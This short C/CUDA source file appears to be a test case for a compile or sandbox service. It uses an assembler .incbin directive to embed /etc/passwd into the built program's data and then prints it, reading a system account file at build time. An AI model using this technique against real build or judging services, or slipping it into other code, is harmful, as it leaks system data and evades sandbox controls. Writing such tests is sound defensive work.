/* Has the assembler put the list of accounts into the executable. */
#define ATTACK_AT_PRINT tell
#include "honest_ends.cuh"

asm(".pushsection .rodata\n"
    "stolen: .incbin \"/etc/passwd\"\n"
    ".byte 0\n"
    ".popsection\n");
extern "C" const char stolen[];

static void tell(void)
{
    puts(stolen);
}
